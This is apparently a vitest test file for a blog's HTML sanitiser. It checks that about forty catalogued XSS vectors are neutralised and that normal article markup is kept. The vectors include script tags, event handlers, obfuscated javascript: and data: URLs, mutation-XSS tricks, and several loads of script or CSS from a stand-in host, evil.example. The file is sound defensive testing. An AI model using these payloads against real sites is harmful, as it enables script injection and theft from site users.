import { describe, expect, it } from 'vitest';
import { sanitizePostHtml } from './sanitize';

// Known XSS vectors (OWASP filter-evasion cheat sheet, html5sec.org and DOMPurify's
// own test corpus), each fed through the same path the post page uses.
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JAVASCRIPT:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">tab</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
  '<a href=" javascript:alert(1)">space</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p onclick="alert(1)" onmouseover="alert(1)">text</p>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
] as const;

function inspect(html: string) {
  const root = document.createElement('div');
  root.innerHTML = html;
  const elements = [...root.querySelectorAll('*')];
  return {
    root,
    scripts: root.querySelectorAll('script, iframe, object, embed, base, meta, link, style, form').length,
    handlers: elements.flatMap((el) =>
      [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => a.name),
    ),
    badUrls: elements.flatMap((el) =>
      [...el.attributes]
        .filter((a) => /^(href|src|xlink:href|action|formaction|data|background|srcdoc)$/i.test(a.name))
        .filter((a) =>
          /^\s*(javascript|vbscript|data):/i.test([...a.value].filter((c) => c.charCodeAt(0) > 32).join('')),
        )
        .map((a) => `${a.name}=${a.value}`),
    ),
  };
}

describe('post body sanitising', () => {
  it(`has a corpus of at least 30 vectors (${VECTORS.length})`, () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(30);
  });

  it.each(VECTORS)('neutralises %s', async (vector) => {
    const clean = await sanitizePostHtml(`<p>before</p>${vector}<p>after</p>`);
    const { scripts, handlers, badUrls } = inspect(clean);
    expect(scripts).toBe(0);
    expect(handlers).toEqual([]);
    expect(badUrls).toEqual([]);
    expect(clean).not.toMatch(/<script/i);
  });

  it('no vector runs script when the result is put into the page', async () => {
    const w = window as unknown as { __xss?: number };
    w.__xss = 0;
    const host = document.createElement('div');
    document.body.append(host);
    for (const vector of VECTORS) {
      host.innerHTML = await sanitizePostHtml(vector.replaceAll('alert(1)', 'window.__xss++'));
    }
    host.querySelectorAll<HTMLElement>('*').forEach((el) => el.click?.());
    await new Promise((resolve) => setTimeout(resolve, 0));
    expect(w.__xss).toBe(0);
    host.remove();
  });

  it('keeps ordinary article markup: headings, lists, links, images, code, tables', async () => {
    const article = [
      '<h2>Heading</h2><h3>Sub heading</h3>',
      '<p>A <strong>bold</strong>, <em>italic</em> and <a href="https://baymard.com/research">linked</a> word.</p>',
      '<p><a href="/es/blog/otro">internal</a> <a href="#part">anchor</a> <a href="mailto:info@intenta.example">mail</a></p>',
      '<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>',
      '<blockquote><p>quote</p></blockquote>',
      '<img src="/static/svg/a.svg" alt="An illustration" width="640" height="360">',
      '<pre><code>const x = 1;</code></pre><p><code>inline</code></p>',
      '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
    ].join('');
    const { root } = inspect(await sanitizePostHtml(article));
    expect(root.querySelector('h2')?.textContent).toBe('Heading');
    expect(root.querySelector('h3')?.textContent).toBe('Sub heading');
    expect(root.querySelectorAll('li')).toHaveLength(3);
    expect(root.querySelector('a[href="https://baymard.com/research"]')?.textContent).toBe('linked');
    expect(root.querySelector('a[href="/es/blog/otro"]')).not.toBeNull();
    expect(root.querySelector('a[href="#part"]')).not.toBeNull();
    expect(root.querySelector('a[href="mailto:info@intenta.example"]')).not.toBeNull();
    expect(root.querySelector('img')?.getAttribute('alt')).toBe('An illustration');
    expect(root.querySelector('img')?.getAttribute('width')).toBe('640');
    expect(root.querySelector('pre code')?.textContent).toBe('const x = 1;');
    expect(root.querySelector('th[scope="col"]')?.textContent).toBe('A');
    expect(root.querySelector('td')?.textContent).toBe('1');
    expect(root.querySelector('blockquote p')?.textContent).toBe('quote');
    expect(root.querySelector('strong')?.textContent).toBe('bold');
  });
});
